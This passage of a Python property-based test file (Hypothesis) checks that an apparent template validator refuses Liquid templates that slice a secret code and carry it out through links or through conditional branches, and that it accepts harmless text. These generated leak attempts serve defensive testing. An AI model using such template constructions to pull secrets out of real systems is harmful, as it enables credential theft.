destinations = st.sampled_from(
    [
        *(link.format("{{ x }}") for link in LINKS),
        *(item.replace("C", "x contains '4'").replace("c ", "x ") for item in DECIDED),
    ]
)


@settings(max_examples=150, deadline=None)
@given(steps, carriers, destinations)
def test_no_chain_of_steps_hides_a_secret(made: str, carrier: tuple[str, str], link: str) -> None:
    part, around = carrier
    start = "{% assign x = code | slice: 0, 6 %}"
    assert is_refused(start + made + around.replace("@", link), part)


@settings(max_examples=60, deadline=None)
@given(carriers, st.sampled_from([*product(HARMLESS, FLOWS)]))
def test_harmless_text_is_accepted_anywhere(
    carrier: tuple[str, str], shown: tuple[str, tuple[str, str]]
) -> None:
    part, around = carrier
    text, (flow, name) = shown
    assert not is_refused(around.replace("@", text.format(C=flow, D=name)), part)
